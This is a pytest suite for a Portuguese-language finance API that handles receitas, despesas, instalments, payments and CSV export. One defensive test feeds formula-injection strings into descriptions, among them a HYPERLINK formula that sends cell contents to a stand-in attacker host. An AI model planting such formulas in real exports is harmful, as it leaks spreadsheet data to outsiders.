"""/api/lancamentos and /api/baixas on real PostgreSQL: a studio's receitas and despesas."""
import csv
import io
import random
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal

import pytest

from financeiro import lancamentos as dominio

LEITURA = ("financeiro:ler",)


def novo(cad, **campos):
    corpo = {"tipo": "RECEITA", "descricao": "Ensaio gestante Ana", "valor": "450.00",
             "data_vencimento": "2026-03-10", "categoria_id": cad.receita_id, "conta_id": cad.conta_id}
    corpo.update(campos)
    return corpo


def criar(cliente, cad, **campos):
    resposta = cliente.post("/api/lancamentos", json=novo(cad, **campos))
    assert resposta.status_code == 201, resposta.get_json()
    return resposta.get_json()


def listar(cliente, **filtros):
    resposta = cliente.get("/api/lancamentos", query_string=filtros)
    assert resposta.status_code == 200, resposta.get_json()
    return resposta.get_json()


def baixar(cliente, lancamento_id, esperado=201, **campos):
    resposta = cliente.post(f"/api/lancamentos/{lancamento_id}/baixas", json=campos)
    assert resposta.status_code == esperado, resposta.get_json()
    return resposta.get_json()


# ---------------------------------------------------------------- creating


def test_creates_a_receita_with_its_names_and_a_default_competencia(cliente, cad):
    criado = criar(cliente, cad, cliente_id=cad.cliente_id, documento="NF 123", observacoes="sinal pago")
    assert criado["id"] > 0
    assert criado["valor"] == "450.00" and criado["valor_pago"] == "0.00" and criado["valor_aberto"] == "450.00"
    assert criado["competencia"] == "2026-03"
    assert (criado["categoria_nome"], criado["conta_nome"], criado["cliente_nome"]) == ("Ensaios", "Itaú", "Ana Souza")
    assert criado["status"] == "PENDENTE" and criado["vencido"] is True  # 2026-03-10 is past
    assert criado["serie"] is None and criado["data_pagamento"] is None
    assert cliente.get(f"/api/lancamentos/{criado['id']}").get_json()["baixas"] == []


def test_a_lancamento_created_paid_gets_its_baixa(cliente, cad, sql_dono):
    criado = criar(cliente, cad, status="PAGO", data_pagamento="2026-03-09")
    assert (criado["status"], criado["valor_pago"], criado["data_pagamento"]) == ("PAGO", "450.00", "2026-03-09")
    detalhe = cliente.get(f"/api/lancamentos/{criado['id']}").get_json()
    assert [(b["valor"], b["conta_id"], b["data"]) for b in detalhe["baixas"]] == [("450.00", cad.conta_id, "2026-03-09")]
    saldo = sql_dono("SELECT movimento FROM financeiro.v_saldos_conta WHERE conta_id = %s", (cad.conta_id,),
                     empresa_id=cad.empresa_id)
    assert saldo == [{"movimento": Decimal("450.00")}]


@pytest.mark.parametrize("campos, campo, mensagem", [
    ({"valor": "0"}, "valor", "maior que 0"),
    ({"valor": "-5"}, "valor", "maior que 0"),
    ({"valor": "1.005"}, "valor", "duas casas"),
    ({"valor": 12.5}, None, None),  # a JSON number is money too
    ({"tipo": "OUTRO"}, "tipo", "RECEITA"),
    ({"descricao": "  "}, "descricao", "pelo menos 1"),
    ({"data_vencimento": "10/03/2026"}, "data_vencimento", "AAAA-MM-DD"),
    ({"competencia": "2026-13"}, "competencia", "AAAA-MM"),
    # Dates at the ends of Python's calendar: the parcelas' months would overflow (a 500).
    ({"competencia": "0001-01"}, "competencia", "anos de 1900 a 2199"),
    ({"data_vencimento": "9999-12-31", "parcelas": {"quantidade": 360}}, "data_vencimento", "anos de 1900 a 2199"),
    ({"categoria_id": "x"}, "categoria_id", "inteiro"),
    ({"status": "PARCIAL"}, "status", "PENDENTE"),
    ({"data_pagamento": "2026-03-01"}, "corpo", "status PAGO"),
    ({"parcelas": {"quantidade": 1}}, "parcelas.quantidade", "maior ou igual a 2"),
    ({"parcelas": {"quantidade": 2}, "recorrencia": {"frequencia": "MENSAL", "quantidade": 2}}, "corpo", "não as duas"),
    ({"recorrencia": {"frequencia": "MENSAL"}}, "recorrencia", "quantidade ou a data final"),
    ({"parcelas": {"quantidade": 3, "valores": ["100", "100"]}}, "parcelas", "3 itens"),
    ({"parcelas": {"quantidade": 2, "valores": ["100", "100"]}}, "parcelas.valores", "somam 200.00"),
    ({"valor": "0.02", "parcelas": {"quantidade": 3}}, "valor", "R$ 0,01"),
    ({"recorrencia": {"frequencia": "SEMANAL", "ate": "2040-01-01"}}, "recorrencia.ate", "360"),
    ({"recorrencia": {"frequencia": "MENSAL", "ate": "2026-03-20"}}, "recorrencia.ate", "nenhuma repetição"),
    ({"extra": 1}, "extra", "desconhecido"),
])
def test_invalid_fields_are_named_in_portuguese_and_nothing_is_stored(cliente, cad, campos, campo, mensagem):
    resposta = cliente.post("/api/lancamentos", json=novo(cad, **campos))
    if campo is None:
        assert resposta.status_code == 201
        return
    assert resposta.status_code == 400, resposta.get_json()
    assert mensagem in resposta.get_json()["campos"][campo]
    assert listar(cliente)["items"] == []


def test_references_must_be_active_and_of_the_right_kind(cliente, cad, sql_dono):
    resposta = cliente.post("/api/lancamentos", json=novo(cad, categoria_id=cad.despesa_id))
    assert resposta.status_code == 400
    assert resposta.get_json()["campos"]["categoria_id"].startswith("A categoria é de despesa")
    resposta = cliente.post("/api/lancamentos", json=novo(cad, cliente_id=cad.cliente_id, fornecedor_id=cad.fornecedor_id))
    assert "não os dois" in resposta.get_json()["campos"]["fornecedor_id"]
    sql_dono("UPDATE cadastros.contas SET ativa = false WHERE id = %s", (cad.conta_id,), empresa_id=cad.empresa_id)
    resposta = cliente.post("/api/lancamentos", json=novo(cad))
    assert resposta.get_json()["campos"] == {"conta_id": "Conta inativa; escolha outra"}


def test_another_empresas_records_do_not_exist_for_a_lancamento(como, cadastro, nova_empresa, cad, cliente):
    outra = cadastro(nova_empresa())
    for campo, valor in (("conta_id", outra.conta_id), ("categoria_id", outra.receita_id),
                         ("cliente_id", outra.cliente_id), ("fornecedor_id", outra.fornecedor_id)):
        resposta = cliente.post("/api/lancamentos", json=novo(cad, **{campo: valor}))
        assert resposta.status_code == 404, campo
        assert resposta.get_json()["code"] == "nao_encontrado" and campo in resposta.get_json()["campos"]
    meu = criar(cliente, cad)
    resposta = cliente.put(f"/api/lancamentos/{meu['id']}", json={"conta_id": outra.conta_id})
    assert resposta.status_code == 404
    assert baixar(cliente, meu["id"], 404, conta_id=outra.conta_id)["campos"] == {"conta_id": "Conta não encontrada"}


def test_every_id_route_answers_404_for_another_empresas_lancamento(como, cadastro, nova_empresa, cliente, cad):
    outra = cadastro(nova_empresa())
    estranho = como(outra.empresa_id)
    alheio = criar(estranho, outra)
    baixa = baixar(estranho, alheio["id"], valor="10.00")
    i = alheio["id"]
    for metodo, caminho, corpo in (("get", f"/api/lancamentos/{i}", None), ("put", f"/api/lancamentos/{i}", {"descricao": "x"}),
                                   ("delete", f"/api/lancamentos/{i}", None), ("post", f"/api/lancamentos/{i}/cancelar", None),
                                   ("post", f"/api/lancamentos/{i}/reativar", None),
                                   ("get", f"/api/lancamentos/{i}/baixas", None),
                                   ("post", f"/api/lancamentos/{i}/baixas", {"valor": "1.00"}),
                                   ("delete", f"/api/baixas/{baixa['id']}", None)):
        resposta = getattr(cliente, metodo)(caminho, json=corpo)
        assert resposta.status_code == 404, (metodo, caminho)
    assert listar(cliente)["items"] == []
    assert listar(cliente, serie_id=1)["items"] == []
    assert estranho.get(f"/api/lancamentos/{i}").get_json()["valor_pago"] == "10.00"


def test_reading_needs_ler_and_writing_escrever(como, cad):
    leitor = como(cad.empresa_id, LEITURA)
    assert leitor.get("/api/lancamentos").status_code == 200
    assert leitor.post("/api/lancamentos", json=novo(cad)).status_code == 403
    assert como(cad.empresa_id, ("cadastros:ler",)).get("/api/lancamentos").status_code == 403


# ---------------------------------------------------------------- parcelas and recorrência


def test_parcelas_add_up_exactly_with_the_remainder_on_the_chosen_one(cliente, cad):
    primeira = criar(cliente, cad, valor="1000.00", data_vencimento="2026-01-31", documento="Contrato 7",
                     parcelas={"quantidade": 3})
    assert primeira["serie"]["tipo"] == "PARCELAMENTO" and primeira["serie"]["quantidade"] == 3
    itens = listar(cliente, serie_id=primeira["serie"]["id"])["items"]
    assert [(i["valor"], i["data_vencimento"], i["competencia"], i["serie"]["numero"]) for i in itens] == [
        ("333.34", "2026-01-31", "2026-01", 1), ("333.33", "2026-02-28", "2026-02", 2), ("333.33", "2026-03-31", "2026-03", 3)]
    ultima = criar(cliente, cad, valor="100.00", competencia="2025-12",
                   parcelas={"quantidade": 3, "resto": "ULTIMA", "frequencia": "SEMANAL"})
    itens = listar(cliente, serie_id=ultima["serie"]["id"])["items"]
    assert [i["valor"] for i in itens] == ["33.33", "33.33", "33.34"]
    assert {i["competencia"] for i in itens} == {"2025-12"}  # the sale's month
    assert [i["data_vencimento"] for i in itens] == ["2026-03-10", "2026-03-17", "2026-03-24"]


def test_parcelas_with_their_own_values_and_dates(cliente, cad):
    criado = criar(cliente, cad, valor="1000.00", parcelas={
        "quantidade": 2, "valores": ["300.00", "700.00"], "vencimentos": ["2026-05-20", "2026-04-01"]})
    itens = listar(cliente, serie_id=criado["serie"]["id"])["items"]
    assert [(i["data_vencimento"], i["valor"], i["serie"]["numero"]) for i in itens] == [
        ("2026-04-01", "700.00", 2), ("2026-05-20", "300.00", 1)]


def test_recurrence_by_count_and_until_a_date(cliente, cad):
    mensal = criar(cliente, cad, tipo="DESPESA", categoria_id=cad.despesa_id, descricao="Aluguel do estúdio",
                   valor="2500.00", data_vencimento="2026-01-05", competencia="2025-12",
                   recorrencia={"frequencia": "MENSAL", "quantidade": 12})
    itens = listar(cliente, serie_id=mensal["serie"]["id"])["items"]
    assert len(itens) == 12 and {i["valor"] for i in itens} == {"2500.00"}
    assert (itens[0]["competencia"], itens[11]["competencia"]) == ("2025-12", "2026-11")  # one month before each
    assert itens[11]["data_vencimento"] == "2026-12-05"
    anual = criar(cliente, cad, data_vencimento="2024-02-29", recorrencia={"frequencia": "ANUAL", "ate": "2027-03-01"})
    assert [i["data_vencimento"] for i in listar(cliente, serie_id=anual["serie"]["id"])["items"]] == [
        "2024-02-29", "2025-02-28", "2026-02-28", "2027-02-28"]


def test_this_and_the_following_ones_move_together_but_paid_ones_stay(cliente, cad):
    primeira = criar(cliente, cad, valor="100.00", data_vencimento="2026-01-10",
                     recorrencia={"frequencia": "MENSAL", "quantidade": 4})
    serie = primeira["serie"]["id"]
    ids = [i["id"] for i in listar(cliente, serie_id=serie)["items"]]
    baixar(cliente, ids[3], valor="10.00")  # the 4th is partly paid: "the following" leave it alone
    resposta = cliente.put(f"/api/lancamentos/{ids[1]}?escopo=SEGUINTES",
                           json={"valor": "120.00", "data_vencimento": "2026-02-15", "descricao": "Mensalidade nova"})
    assert resposta.status_code == 200 and resposta.get_json()["valor"] == "120.00"
    itens = listar(cliente, serie_id=serie)["items"]
    assert [(i["valor"], i["data_vencimento"], i["descricao"]) for i in itens] == [
        ("100.00", "2026-01-10", "Ensaio gestante Ana"), ("120.00", "2026-02-15", "Mensalidade nova"),
        ("120.00", "2026-03-15", "Mensalidade nova"), ("100.00", "2026-04-10", "Ensaio gestante Ana")]
    assert listar(cliente, q="mensalidade")["totais"]["quantidade"] == 2
    so_este = cliente.put(f"/api/lancamentos/{ids[0]}", json={"valor": "90.00"}).get_json()
    assert so_este["valor"] == "90.00"
    assert listar(cliente, serie_id=serie)["items"][1]["valor"] == "120.00"


def test_cancel_reactivate_and_delete_with_scope(cliente, cad, sql_dono):
    primeira = criar(cliente, cad, valor="50.00", recorrencia={"frequencia": "SEMANAL", "quantidade": 3})
    ids = [i["id"] for i in listar(cliente, serie_id=primeira["serie"]["id"])["items"]]
    cancelado = cliente.post(f"/api/lancamentos/{ids[1]}/cancelar?escopo=SEGUINTES").get_json()
    assert cancelado["status"] == "CANCELADO"
    assert [i["status"] for i in listar(cliente, serie_id=primeira["serie"]["id"])["items"]] == [
        "PENDENTE", "CANCELADO", "CANCELADO"]
    assert baixar(cliente, ids[1], 409)["error"].startswith("Este lançamento está cancelado")
    assert cliente.post(f"/api/lancamentos/{ids[1]}/reativar").get_json()["status"] == "PENDENTE"
    baixar(cliente, ids[0], valor="5.00")
    assert cliente.delete(f"/api/lancamentos/{ids[0]}").status_code == 409
    assert cliente.post(f"/api/lancamentos/{ids[0]}/cancelar").status_code == 409
    assert cliente.delete(f"/api/lancamentos/{ids[1]}?escopo=SEGUINTES").status_code == 204
    assert [i["id"] for i in listar(cliente, serie_id=primeira["serie"]["id"])["items"]] == [ids[0]]
    acoes = sql_dono("SELECT acao, entidade_id FROM plataforma.auditoria WHERE entidade = 'lancamento' "
                     "AND acao IN ('cancelar', 'reativar', 'excluir') AND empresa_id = %s ORDER BY id", (cad.empresa_id,))
    assert [(a["acao"], int(a["entidade_id"])) for a in acoes] == [
        ("cancelar", ids[1]), ("cancelar", ids[2]), ("reativar", ids[1]), ("excluir", ids[1]), ("excluir", ids[2])]


# ---------------------------------------------------------------- baixas


def test_partial_payments_with_interest_and_discount_and_undo(cliente, cad, sql_dono):
    lancamento = criar(cliente, cad, valor="1000.00")
    primeira = baixar(cliente, lancamento["id"], valor="400.00", data="2026-03-12", juros="5.00", multa="20.00")
    assert primeira["valor_movimentado"] == "425.00" and primeira["conta_nome"] == "Itaú"
    atual = cliente.get(f"/api/lancamentos/{lancamento['id']}").get_json()
    assert (atual["status"], atual["valor_pago"], atual["valor_aberto"], atual["vencido"]) == ("PARCIAL", "400.00", "600.00", True)
    erro = baixar(cliente, lancamento["id"], 400, valor="600.01")
    assert erro["campos"]["valor"] == "Maior que o valor em aberto (R$ 600,00)"
    assert baixar(cliente, lancamento["id"], 400, valor="10.00", desconto="11.00")["campos"]["desconto"]
    segunda = baixar(cliente, lancamento["id"], data="2026-03-20", conta_id=cad.outra_conta_id, desconto="30.00")
    assert (segunda["valor"], segunda["valor_movimentado"]) == ("600.00", "570.00")
    atual = cliente.get(f"/api/lancamentos/{lancamento['id']}").get_json()
    assert (atual["status"], atual["data_pagamento"], len(atual["baixas"])) == ("PAGO", "2026-03-20", 2)
    assert baixar(cliente, lancamento["id"], 409)["error"] == "Este lançamento já está pago"
    saldos = {s["conta_id"]: s["movimento"] for s in sql_dono(
        "SELECT conta_id, movimento FROM financeiro.v_saldos_conta WHERE empresa_id = %s", (cad.empresa_id,))}
    assert saldos == {cad.conta_id: Decimal("425.00"), cad.outra_conta_id: Decimal("570.00")}

    assert cliente.delete(f"/api/baixas/{segunda['id']}").status_code == 204
    assert cliente.delete(f"/api/baixas/{segunda['id']}").status_code == 404
    atual = cliente.get(f"/api/lancamentos/{lancamento['id']}").get_json()
    assert (atual["status"], atual["valor_aberto"], atual["data_pagamento"]) == ("PARCIAL", "600.00", "2026-03-12")
    saldos = {s["conta_id"]: s["movimento"] for s in sql_dono(
        "SELECT conta_id, movimento FROM financeiro.v_saldos_conta WHERE empresa_id = %s", (cad.empresa_id,))}
    # The conta's only movement was undone: no row, the same as none (cadastros reads it as 0).
    assert saldos == {cad.conta_id: Decimal("425.00")}
    estorno = sql_dono("SELECT antes FROM plataforma.auditoria WHERE acao = 'estornar' AND entidade_id = %s "
                       "AND empresa_id = %s", (str(segunda["id"]), cad.empresa_id))
    assert estorno[0]["antes"]["valor"] == "600.00" and estorno[0]["antes"]["desconto"] == "30.00"


def test_a_despesa_takes_money_out_and_a_future_payment_is_not_in_todays_balance(cliente, cad, sql_dono):
    despesa = criar(cliente, cad, tipo="DESPESA", categoria_id=cad.despesa_id, fornecedor_id=cad.fornecedor_id)
    baixar(cliente, despesa["id"], valor="200.00", data="2026-01-02", juros="1.50")
    futura = criar(cliente, cad, data_vencimento="2099-01-01")
    baixar(cliente, futura["id"], data="2099-01-01")
    assert sql_dono("SELECT movimento FROM financeiro.v_saldos_conta WHERE empresa_id = %s", (cad.empresa_id,)) == [
        {"movimento": Decimal("-201.50")}]


def test_lowering_a_valor_below_what_was_paid_is_refused_and_raising_it_reopens(cliente, cad):
    lancamento = criar(cliente, cad, valor="300.00")
    baixar(cliente, lancamento["id"])
    resposta = cliente.put(f"/api/lancamentos/{lancamento['id']}", json={"valor": "299.99"})
    assert resposta.status_code == 400 and "300.00" in resposta.get_json()["campos"]["valor"]
    reaberto = cliente.put(f"/api/lancamentos/{lancamento['id']}", json={"valor": "350.00"}).get_json()
    assert (reaberto["status"], reaberto["valor_aberto"]) == ("PARCIAL", "50.00")
    assert cliente.put(f"/api/lancamentos/{lancamento['id']}", json={"valor": None}).status_code == 400


# ---------------------------------------------------------------- lists, totals, export


def test_filters_totals_and_pages(cliente, cad):
    for dia in range(1, 13):
        criar(cliente, cad, descricao=f"Casamento {dia}", valor=f"{dia}.10", data_vencimento=f"2026-04-{dia:02d}",
              cliente_id=cad.cliente_id)
    despesa = criar(cliente, cad, tipo="DESPESA", categoria_id=cad.despesa_id, descricao="Aluguel abril",
                    valor="1000.00", data_vencimento="2026-04-05", conta_id=cad.outra_conta_id)
    baixar(cliente, despesa["id"], valor="250.00", data="2026-05-02")
    cancelado = criar(cliente, cad, descricao="Desistência", valor="999.99", data_vencimento="2026-04-30")
    cliente.post(f"/api/lancamentos/{cancelado['id']}/cancelar")

    pagina = listar(cliente, de="2026-04-01", ate="2026-04-30", limit=5)
    assert pagina["totais"] == {"quantidade": 14, "receitas": "79.20", "despesas": "1000.00", "saldo": "-920.80",
                                "receitas_pagas": "0.00", "despesas_pagas": "250.00",
                                "receitas_abertas": "79.20", "despesas_abertas": "750.00"}
    vistos = [i["id"] for i in pagina["items"]]
    while pagina["next_cursor"]:
        pagina = listar(cliente, de="2026-04-01", ate="2026-04-30", limit=5, cursor=pagina["next_cursor"])
        assert pagina["totais"] is None
        vistos += [i["id"] for i in pagina["items"]]
    assert len(vistos) == len(set(vistos)) == 14

    assert listar(cliente, tipo="DESPESA")["totais"]["quantidade"] == 1
    assert listar(cliente, conta_id=cad.outra_conta_id)["items"][0]["id"] == despesa["id"]
    assert listar(cliente, categoria_id=cad.despesa_id)["totais"]["despesas"] == "1000.00"
    assert listar(cliente, cliente_id=cad.cliente_id)["totais"]["quantidade"] == 12
    assert listar(cliente, status=["PARCIAL", "CANCELADO"])["totais"]["quantidade"] == 2
    assert listar(cliente, vencido="true")["totais"]["quantidade"] == 13  # April 2026 is past; the cancelled is not overdue
    pagos = listar(cliente, data="pagamento", de="2026-05-01", ate="2026-05-31")
    assert [i["id"] for i in pagos["items"]] == [despesa["id"]]
    assert [i["descricao"] for i in listar(cliente, q="casam 1")["items"]] == ["Casamento 1", "Casamento 10",
                                                                             "Casamento 11", "Casamento 12"]
    assert listar(cliente, q="aluguel abr")["items"][0]["id"] == despesa["id"]
    assert listar(cliente, q="inexistente")["totais"]["quantidade"] == 0
    assert listar(cliente, data="competencia", de="2026-04-01", ate="2026-04-01")["totais"]["quantidade"] == 14

    erro = cliente.get("/api/lancamentos?cursor=nao-e-cursor").get_json()
    assert erro["campos"] == {"cursor": "Cursor inválido; recomece a listagem"}
    outro = listar(cliente, limit=1)["next_cursor"]
    assert cliente.get(f"/api/lancamentos?data=pagamento&cursor={outro}").status_code == 400
    assert cliente.get("/api/lancamentos?status=ABERTO").get_json()["campos"]["status.0"].startswith("Valor inválido")


def test_sums_of_many_cents_are_exact_in_the_totals(cliente, cad):
    valores = [Decimal("0.10")] * 30 + [Decimal("0.01")] * 7 + [Decimal("999999999.99")]
    for valor in valores:
        criar(cliente, cad, valor=str(valor), data_vencimento="2027-01-15")
    assert listar(cliente, de="2027-01-01")["totais"]["receitas"] == str(sum(valores))


def test_csv_export_of_the_filtered_ledger(cliente, cad):
    criar(cliente, cad, descricao="Álbum; luxo", valor="1234.50", documento="NF 9", cliente_id=cad.cliente_id,
          parcelas={"quantidade": 2})
    criar(cliente, cad, descricao="Fora do filtro", data_vencimento="2030-01-01")
    resposta = cliente.get("/api/lancamentos/exportar?ate=2029-12-31")
    assert resposta.status_code == 200 and resposta.mimetype == "text/csv"
    assert "attachment" in resposta.headers["Content-Disposition"]
    texto = resposta.get_data(as_text=True)
    assert texto.startswith("\ufeff")
    linhas = list(csv.reader(io.StringIO(texto.lstrip("\ufeff")), delimiter=";"))
    assert linhas[0][:3] == ["Tipo", "Descrição", "Categoria"]
    assert [linha[1] for linha in linhas[1:]] == ["Álbum; luxo", "Álbum; luxo"]
    primeira = dict(zip(linhas[0], linhas[1]))
    assert (primeira["Valor"], primeira["Vencimento"], primeira["Parcela"], primeira["Cliente/Fornecedor"],
            primeira["Status"]) == ("617,25", "10/03/2026", "1/2", "Ana Souza", "VENCIDO")
    assert cliente.get("/api/lancamentos/exportar?de=31-12-2029").status_code == 400


@pytest.mark.parametrize("descricao", ['=HYPERLINK("http://golpe.example/?x="&A1;"Clique")', "+55 11 99999-0000",
                                       "-2+3", "@SUM(A1:A9)", "\t=1+1"])
def test_a_description_that_begins_like_a_formula_is_exported_as_text(cliente, cad, descricao):
    """A bank memo copied into a description by a rule must not become a live formula in the
    accountant's spreadsheet: the cell starts with an apostrophe, which makes it text."""
    criar(cliente, cad, descricao=descricao, observacoes=descricao, data_vencimento="2031-05-05")
    texto = cliente.get("/api/lancamentos/exportar?de=2031-05-05&ate=2031-05-05").get_data(as_text=True)
    cabecalho, linha = list(csv.reader(io.StringIO(texto.lstrip("\ufeff")), delimiter=";"))
    celulas = dict(zip(cabecalho, linha))
    assert celulas["Descrição"] == "'" + descricao.strip() and celulas["Observações"] == "'" + descricao.strip()
    assert celulas["Valor"] == "450,00" and celulas["Tipo"] == "RECEITA"


def test_writes_are_audited_and_published(cliente, cad, sql_dono, app):
    redis = app.extensions["erp"].redis
    chave = f"erp:geracao:{cad.empresa_id}:financeiro"
    antes = int(redis.get(chave) or 0)
    criado = criar(cliente, cad)
    baixar(cliente, criado["id"], valor="1.00")
    assert int(redis.get(chave)) == antes + 2
    auditoria = sql_dono("SELECT acao, entidade, depois FROM plataforma.auditoria WHERE servico = 'financeiro-api' "
                         "AND empresa_id = %s ORDER BY id", (cad.empresa_id,))
    assert [(a["acao"], a["entidade"]) for a in auditoria] == [("criar", "lancamento"), ("baixar", "baixa")]
    assert auditoria[0]["depois"]["valor"] == "450.00"


def test_the_filter_keeps_rls_and_other_empresas_out_of_totals(como, cadastro, nova_empresa, cliente, cad):
    outra = cadastro(nova_empresa())
    criar(como(outra.empresa_id), outra, valor="777.00")
    criar(cliente, cad, valor="1.00")
    assert listar(cliente)["totais"]["receitas"] == "1.00"
    onde, _ = dominio.Filtro().sql()
    assert "plataforma.empresa_atual()" in onde


def test_two_people_paying_the_same_open_amount_at_once_pay_it_once(app, como, cad):
    lancamento = criar(como(cad.empresa_id), cad, valor="80.00")

    def pagar(_):
        return como(cad.empresa_id).post(f"/api/lancamentos/{lancamento['id']}/baixas", json={}).status_code

    with ThreadPoolExecutor(4) as grupo:
        assert sorted(grupo.map(pagar, range(4))) == [201, 409, 409, 409]
    assert como(cad.empresa_id).get(f"/api/lancamentos/{lancamento['id']}").get_json()["valor_pago"] == "80.00"


def test_the_daily_movement_rollup_always_equals_the_baixas(cliente, cad, sql_dono):
    sorteio = random.Random(5)
    ids = [criar(cliente, cad, tipo=tipo, categoria_id=categoria, valor="100.00")["id"]
           for tipo, categoria in (("RECEITA", cad.receita_id), ("DESPESA", cad.despesa_id)) * 3]
    feitas = []
    for _ in range(40):
        if feitas and sorteio.random() < 0.3:
            assert cliente.delete(f"/api/baixas/{feitas.pop(sorteio.randrange(len(feitas)))}").status_code == 204
            continue
        resposta = cliente.post(f"/api/lancamentos/{sorteio.choice(ids)}/baixas", json={
            "valor": f"{sorteio.randint(1, 3000) / 100:.2f}", "juros": f"{sorteio.randint(0, 99) / 100:.2f}",
            "data": f"2026-02-{sorteio.randint(1, 3):02d}",
            "conta_id": sorteio.choice((cad.conta_id, cad.outra_conta_id))})
        if resposta.status_code == 201:
            feitas.append(resposta.get_json()["id"])
    diferencas = sql_dono("""
        WITH direto AS (
            SELECT b.conta_id, b.data, sum(CASE l.tipo WHEN 'RECEITA' THEN 1 ELSE -1 END * b.valor_movimentado) AS m
              FROM financeiro.baixas b JOIN financeiro.lancamentos l ON l.empresa_id = b.empresa_id AND l.id = b.lancamento_id
             WHERE b.empresa_id = %(e)s GROUP BY 1, 2)
        SELECT * FROM direto d FULL JOIN (SELECT * FROM financeiro.movimentos_dia WHERE empresa_id = %(e)s) m
            ON m.conta_id = d.conta_id AND m.data = d.data
         WHERE coalesce(d.m, 0) <> coalesce(m.movimento, 0)""", {"e": cad.empresa_id})
    assert feitas and diferencas == []
    pagos = sql_dono("""SELECT l.valor_pago, coalesce(sum(b.valor), 0) AS soma FROM financeiro.lancamentos l
                        LEFT JOIN financeiro.baixas b ON b.empresa_id = l.empresa_id AND b.lancamento_id = l.id
                        WHERE l.empresa_id = %s GROUP BY l.empresa_id, l.id""", (cad.empresa_id,))
    assert all(p["valor_pago"] == p["soma"] for p in pagos)


def test_cadastros_shows_the_derived_balance(service_env, assinar_token, cliente, cad):
    # DESIGN.md rule 2: cadastros-api adds financeiro.v_saldos_conta to saldo_inicial; nothing is synced.
    from cadastros import create_app as cadastros_app
    conta = cadastros_app(service_env).test_client()
    token = assinar_token(emp=cad.empresa_id, perms=["cadastros:ler"], sub="1")
    conta.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {token}"
    receita = criar(cliente, cad, valor="500.00")
    despesa = criar(cliente, cad, tipo="DESPESA", categoria_id=cad.despesa_id, valor="120.00")
    baixar(cliente, receita["id"], valor="300.00", data="2026-03-01")
    baixar(cliente, despesa["id"], data="2026-03-02", multa="2.40")
    assert conta.get(f"/api/contas/{cad.conta_id}").get_json()["saldo_atual"] == "1177.60"
    assert conta.get(f"/api/contas/{cad.outra_conta_id}").get_json()["saldo_atual"] == "1000.00"


def test_movement_before_the_opening_balances_date_is_already_in_it(cliente, cad, sql_dono):
    # The fixture's contas open on 2020-01-01: a payment dated earlier is in saldo_inicial already.
    antigo = criar(cliente, cad, data_vencimento="2019-12-20", valor="70.00")
    baixar(cliente, antigo["id"], data="2019-12-31")
    novo_ = criar(cliente, cad, data_vencimento="2020-01-01", valor="30.00")
    baixar(cliente, novo_["id"], data="2020-01-01")
    assert sql_dono("SELECT movimento FROM financeiro.v_saldos_conta WHERE empresa_id = %s", (cad.empresa_id,)) == [
        {"movimento": Decimal("30.00")}]
